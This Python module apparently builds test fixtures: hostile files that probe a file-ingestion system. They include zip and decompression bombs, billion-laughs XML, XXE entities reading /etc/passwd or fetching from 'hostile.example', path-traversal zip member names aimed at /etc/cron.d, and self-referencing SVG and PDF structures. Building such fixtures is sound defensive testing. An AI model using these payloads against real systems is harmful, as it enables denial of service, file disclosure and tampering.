"""Files that are made to harm, by the names that the tables give them; none of them takes long to make."""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from PIL import Image


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *before: tuple[bytes, bytes], pixels: bytes = b"") -> bytes:
    """A PNG that says how large it is and has hardly any pixels; ``before``: chunks that stand before these."""
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    chunks = [(b"IHDR", head), *before, (b"IDAT", zlib.compress(pixels or b"\0" * 2)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(kind, data) for kind, data in chunks)


def picture(kind: str, size: tuple[int, int] = (8, 8), mode: str = "RGB") -> bytes:
    """A picture that means no harm."""
    data = io.BytesIO()
    Image.new(mode, size).save(data, kind)
    return data.getvalue()


def gif(frames: int, size: int = 1) -> bytes:
    """A GIF of so many frames of one pixel, on a screen of ``size`` x ``size``."""
    head = b"GIF89a" + struct.pack("<HHBBB", size, size, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"\x21\xf9\x04\0\x01\0\0\0\x2c\0\0\0\0\x01\0\x01\0\0\x02\x02\x44\x01\0"
    return head + frame * frames + b"\x3b"


def jpeg_of_scans(number: int) -> bytes:
    """A progressive JPEG whose last scan is there again and again: each is a pass over all pixels."""
    data = io.BytesIO()
    Image.new("RGB", (1000, 1000)).save(data, "JPEG", progressive=True)
    whole = data.getvalue()
    last = whole.rindex(b"\xff\xda")
    return whole[:-2] + whole[last:-2] * number + whole[-2:]


def svg(inside: str, attributes: str = "") -> bytes:
    """A drawing with something in it."""
    names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"'
    return f"<svg {names} {attributes}>{inside}</svg>".encode()


def _doubling(levels: int) -> str:
    """Groups that each show the next one ten times."""
    groups = (f'<g id="g{one}">' + f'<use href="#g{one + 1}"/>' * 10 + "</g>" for one in range(levels))
    return f'<defs>{"".join(groups)}<g id="g{levels}"><rect width="1" height="1"/></g></defs><use href="#g0"/>'


def _patterns(levels: int) -> str:
    patterns = (
        f'<pattern id="p{one}" width="1" height="1">' + f'<rect class="c{one + 1}"/>' * 10 + "</pattern>"
        for one in range(levels)
    )
    rules = "".join(f".c{one} {{fill: url(#p{one})}}" for one in range(levels))
    return f'<style>{rules}</style>{"".join(patterns)}<rect class="c0" width="9" height="9"/>'


def _entities(levels: int) -> bytes:
    """Entities that each stand for ten of the next: a billion of words in a kilobyte."""
    declared = "".join(f'<!ENTITY e{one} "{f"&e{one + 1};" * 10}">' for one in range(levels))
    return (f'<!DOCTYPE svg [{declared}<!ENTITY e{levels} "word">]>'.encode()
            + svg("<text>&e0;</text>"))  # fmt: skip


def zipped(members: dict[str, bytes]) -> bytes:
    """A zip archive."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return data.getvalue()


def _entries(name: bytes, packed: bytes, size: int, crc: int, number: int = 1) -> bytes:
    """A zip archive of one piece of deflated data, which its directory names so many times."""
    fixed = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(packed), size)
    local = b"PK\x03\x04" + fixed + struct.pack("<HH", len(name), 0) + name + packed
    entry = b"PK\x01\x02\x14\0" + fixed + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<HHHHIIH", 0, 0, number, number, len(entry) * number, len(local), 0)
    return local + entry * number + b"PK\x05\x06" + end


def _zip_of_zeros(size: int) -> bytes:
    """An archive with one member of so many zeros: a megabyte is packed once, and stands there again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    megabyte = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return _entries(b"word/document.xml", megabyte * (size >> 20) + packer.flush(), 0xFFFFFFFE, 0)


def _nested_zips(levels: int) -> bytes:
    data = b"word"
    for one in range(levels):
        data = zipped({f"{one}-{twin}.zip": data for twin in range(10)})
    return data


def _overlapping_zip(number: int) -> bytes:
    """A directory whose entries all lead to the same megabytes (as in Fifield's bombs)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(bytes(8 << 20)) + packer.flush()
    return _entries(b"a", packed, 8 << 20, zlib.crc32(bytes(8 << 20)), number)


def _lying_zip() -> bytes:
    """An archive whose directory says that a member of 64 MB has one byte."""
    data = zipped({"word/document.xml": bytes(64 << 20)})
    return data.replace(struct.pack("<I", 64 << 20), struct.pack("<I", 1))


def _font(tables: int, offset: int) -> bytes:
    """A font with tables that lie beyond its end."""
    names = (b"name", b"head", b"cmap", b"glyf")
    return struct.pack(">IHHHH", 0x00010000, tables, 16, 1, 16) + b"".join(
        names[one % 4] + struct.pack(">III", 0, offset, 0x7FFFFFFF) for one in range(tables)
    )


FILES: dict[str, Callable[[], bytes]] = {
    "a picture": lambda: picture("PNG"),
    "50,000 x 50,000 pixels": lambda: png(50_000, 50_000),
    "4 billion x 4 billion pixels": lambda: png(0x7FFFFFFF, 0x7FFFFFFF),
    "no pixels at all": lambda: png(0, 0),
    "8000 x 9000 pixels, of which two bytes are there": lambda: png(8000, 9000),
    "a PNG with 100 MB of text": lambda: png(8, 8, (b"zTXt", b"a\0\0" + zlib.compress(bytes(100 << 20)))),
    "a PNG with 100 MB of profile": lambda: png(8, 8, (b"iCCP", b"a\0\0" + zlib.compress(bytes(100 << 20)))),
    "a PNG of 2 billion frames": lambda: png(8, 8, (b"acTL", struct.pack(">II", 0x7FFFFFFF, 0)), pixels=bytes(72)),
    "half a PNG": lambda: picture("PNG", (800, 800))[:60],
    "a GIF of 5,000 frames": lambda: gif(5_000),
    "a GIF of 200 frames of 60,000 x 60,000": lambda: gif(200, 60_000),
    "a GIF of 200 frames of 5,000 x 5,000": lambda: gif(200, 5_000),
    "a JPEG of 5,000 scans": lambda: jpeg_of_scans(5_000),
    "half a JPEG": lambda: picture("JPEG", (800, 800))[:400],
    "a TIFF": lambda: picture("TIFF"),
    "a TIFF of 4 billion tags": lambda: b"II*\0\x08\0\0\0\xff\xff" + b"\xff" * 60,
    "an ICO": lambda: picture("ICO", (16, 16)),
    "a WebP": lambda: picture("WEBP"),
    "a PDF": lambda: b"%PDF-1.7\n",
    "an executable": lambda: b"\x7fELF" + bytes(100),
    "nothing": lambda: b"",
    "a billion laughs": lambda: _entities(9),
    "a billion laughs in UTF-16": lambda: _entities(9).decode().encode("utf-16"),
    "an entity that is a file": lambda: (
        b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + svg("<text>&a;</text>")
    ),
    "an entity on the web": lambda: b'<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://hostile.example/a"> %a;]>' + svg(""),
    "a document type on the web": lambda: (
        b'<!DOCTYPE svg SYSTEM "http://hostile.example/a.dtd">' + svg("<text>&a;</text>")
    ),
    "an attribute that the document type adds": lambda: (
        b'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "a()">]>' + svg("<rect/>")
    ),
    "a stylesheet on the web, by an instruction": lambda: (
        b'<?xml-stylesheet href="http://hostile.example/a.css"?>' + svg('<rect width="9" height="9"/>')
    ),
    "groups that show each other a billion times": lambda: svg(_doubling(9)),
    "patterns that paint each other a billion times": lambda: svg(_patterns(9)),
    "a group that shows itself": lambda: svg('<g id="a"><use href="#a"/></g>'),
    "200 groups in one another": lambda: svg("<g>" * 200 + "</g>" * 200),
    "100,000 groups in one another": lambda: svg("<g>" * 100_000 + "</g>" * 100_000),
    "a million rectangles": lambda: svg("<rect/>" * 1_000_000),
    "30,000 rectangles": lambda: svg("<rect/>" * 30_000),
    "a marker on each of 100,000 points": lambda: svg(
        f'<marker id="m"><rect width="1" height="1"/></marker><path marker-mid="url(#m)" d="M0 0{"h1" * 100_000}"/>'
    ),
    "8 MB of path": lambda: svg('<path d="M0 0' + "h1" * 4_000_000 + '"/>'),
    "10 GB of zeros": lambda: _zip_of_zeros(10 << 30),
    "a zip of zips": lambda: _nested_zips(3),
    "a zip of zips of zips": lambda: _nested_zips(12),
    "10,000 members that are one": lambda: _overlapping_zip(10_000),
    "a member that says that it is small": _lying_zip,
    "members whose names leave": lambda: zipped({"../../../etc/cron.d/a": b"x", "/etc/passwd": b"x", "C:\\a": b"x"}),
    "half a zip": lambda: zipped({"a": os.urandom(5000)})[:2000],
    "a font whose tables are not there": lambda: _font(12, 0x7FFFFFF0),
    "a font of 65,535 tables": lambda: _font(65_535, 12),
    "a font whose name table is itself": lambda: _font(1, 0),
    "markup 20,000 levels deep": lambda: b"<a>" * 20_000,
    "markup 200,000 levels deep": lambda: b"<a>" * 200_000,
    "markup with a billion laughs": lambda: b"<?xml version='1.0'?>" + _entities(9),
    "a PDF whose pages are its own parents": lambda: (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>endobj\n"
        b"trailer<</Root 1 0 R/Size 3>>\n%%EOF"
    ),
    "a PDF of 10,000 brackets": lambda: (
        b"%PDF-1.4\n1 0 obj" + b"[" * 10_000 + b"]" * 10_000 + b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    ),
    "bytes that are no UTF-8": lambda: b"title: \xff\xfe",
    "an article that is no UTF-8": lambda: b"---\ntitle: A\n---\n\n\x80",
    "an article in UTF-16": lambda: "---\ntitle: A\n---\n\nWords.".encode("utf-16"),
    "Markdown of 3 MB": lambda: b"word " * 600_000,
}


#: What a file system can hold instead of a file.
def sparse(path: Path) -> None:
    """A file of ten gigabytes that takes no room on the disk."""
    path.touch()
    os.truncate(path, 10 << 30)


def fifo(path: Path) -> None:
    """A pipe that nobody writes to."""
    os.mkfifo(path)


def folder(path: Path) -> None:
    """A folder where a file is wanted."""
    path.mkdir()


SPECIAL: dict[str, Callable[[Path], None]] = {"10 GB": sparse, "a pipe": fifo, "a folder": folder}
